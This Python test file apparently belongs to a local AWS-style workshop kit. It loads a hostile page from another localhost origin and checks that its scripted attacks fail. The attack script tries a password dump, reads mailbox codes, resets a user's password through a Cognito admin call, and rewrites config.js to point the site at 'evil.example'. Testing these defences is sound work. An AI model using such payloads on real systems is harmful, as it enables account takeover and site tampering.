"""A hostile web page on another local origin, opened while the workshop runs, in headless
Chromium: every attack the doors issue lists fails, and the kit's own site still works.

The page is served by a plain HTTP server on another port of 127.0.0.1 (another origin, as
any site the learner visits would be). Each attack runs in the page with fetch(), the way an
attacker's script would; the outcome is then checked on the backend itself.
"""

from __future__ import annotations

import functools
import http.server
import threading
import time

import jwt
import pytest
from browser_support import PASSWORD, latest_code, new_email, username
from tests_support import free_port

from wildrydes import accounts, website
from wildrydes.kit import current
from wildrydes.local import secret

ATTACKS = """
async ({backend, bucket, poolId, user}) => {
  const results = {};
  const read = async (name, url, options) => {
    try {
      const response = await fetch(url, options);
      results[name] = 'read: ' + (await response.text());
    } catch (e) {
      results[name] = 'blocked: ' + e.name;
    }
  };
  const blind = async (name, url, options) => {  // no-cors: sent, answer unreadable
    try {
      await fetch(url, {mode: 'no-cors', ...options});
      results[name] = 'sent';
    } catch (e) {
      results[name] = 'blocked: ' + e.name;
    }
  };
  await read('password dump', backend + '/moto-api/data.json');
  await read('outbox', backend + '/_wildrydes/outbox');
  await read('mailbox', backend + '/_wildrydes/mailbox');
  await read('admin call', backend + '/', {method: 'POST', headers: {
      'X-Amz-Target': 'AWSCognitoIdentityProviderService.AdminSetUserPassword',
      'Content-Type': 'application/x-amz-json-1.1'},
    body: JSON.stringify({UserPoolId: poolId, Username: user,
                          Password: 'Taken-Over-1', Permanent: true})});
  const form = new FormData();
  form.append('key', 'js/config.js');
  form.append('Content-Type', 'application/javascript');
  form.append('file', new Blob(["window._config={cognito:{endpoint:'http://evil.example/'}};"]),
              'config.js');
  await blind('config.js rewrite', backend + '/' + bucket, {method: 'POST', body: form});
  await blind('config.js put', backend + '/' + bucket + '/js/config.js',
              {method: 'PUT', body: 'hacked'});
  await blind('clock move', backend + '/_wildrydes/clock',
              {method: 'POST', headers: {'Content-Type': 'text/plain'},
               body: '{"advance_seconds": 1e308}'});
  await blind('moto reset', backend + '/moto-api/reset', {method: 'POST'});
  await blind('admin call without preflight', backend + '/', {method: 'POST',
    headers: {'Content-Type': 'text/plain'},
    body: JSON.stringify({UserPoolId: poolId, Username: user})});
  return results;
}
"""


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@pytest.fixture
def hostile_origin(tmp_path):
    """http://127.0.0.1:<another port>/ serving a blank page: the attacker's origin."""
    (tmp_path / "index.html").write_text("<!doctype html><title>free unicorns</title>")
    port = free_port()
    handler = functools.partial(_Quiet, directory=str(tmp_path))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{port}"
    server.shutdown()
    server.server_close()


def test_a_hostile_page_can_do_none_of_the_attacks(
    make_page, hostile_origin, site, backend, cognito
):
    kit = current()
    email = new_email("victim")
    accounts.register(kit, email, PASSWORD)
    code = latest_code(backend, email)
    accounts.confirm(kit, email, code=code)
    config_before = website.read_config_js(backend.client("s3"), site.bucket)

    w = make_page()
    w.page.goto(hostile_origin + "/index.html")
    results = w.page.evaluate(
        ATTACKS,
        {
            "backend": site.endpoint,
            "bucket": site.bucket,
            "poolId": site.user_pool_id,
            "user": username(email),
        },
    )

    # Nothing readable came back: no dump, no codes, no admin answer.
    for name in ("password dump", "outbox", "mailbox", "admin call"):
        assert results[name].startswith("blocked"), (name, results[name][:200])
    assert all(PASSWORD not in text and code not in text for text in results.values())
    # What could be sent blindly changed nothing on the backend.
    assert website.read_config_js(backend.client("s3"), site.bucket) == config_before
    user = cognito.admin_get_user(UserPoolId=site.user_pool_id, Username=username(email))
    assert user["UserStatus"] == "CONFIRMED"  # not deleted, not reset
    session = accounts.sign_in(kit, email, PASSWORD)  # the password was not changed
    issued = jwt.decode(session.id_token, options={"verify_signature": False})["iat"]
    assert abs(issued - time.time()) < 120  # the clock was not moved
    accounts.register(kit, new_email("after"), PASSWORD)  # SignUp still works
    cognito.describe_user_pool(UserPoolId=site.user_pool_id)  # nothing was reset


def test_the_kits_own_site_still_works_from_its_own_origin(make_page, site, backend):
    """The control: the same browser, on the backend's own origin, reads what it needs."""
    w = make_page()
    w.page.goto(site.url("index.html"))
    read = "async (u) => (await fetch(u)).status"
    # The outbox answers the learner only: not yet to this browser ...
    assert w.page.evaluate(read, site.endpoint + "/_wildrydes/outbox") == 403
    # ... then, once the learner opened the link `wildrydes status` prints, to its own pages.
    w.page.goto(secret.person_link(site.url("index.html")))
    w.page.wait_for_url(site.url("index.html"))
    assert w.page.evaluate(read, site.endpoint + "/_wildrydes/outbox") == 200
    email = new_email("own")
    w.page.goto(site.url("register.html"))
    answer = w.page.evaluate(
        """async ({endpoint, clientId, user, email, password}) => {
        const r = await fetch(endpoint, {method: 'POST', headers: {
            'X-Amz-Target': 'AWSCognitoIdentityProviderService.SignUp',
            'Content-Type': 'application/x-amz-json-1.1'},
          body: JSON.stringify({ClientId: clientId, Username: user, Password: password,
                                UserAttributes: [{Name: 'email', Value: email}]})});
        return r.status; }""",
        {
            "endpoint": site.endpoint + "/",
            "clientId": site.client_id,
            "user": username(email),
            "email": email,
            "password": PASSWORD,
        },
    )
    assert answer == 200
    assert latest_code(backend, email)
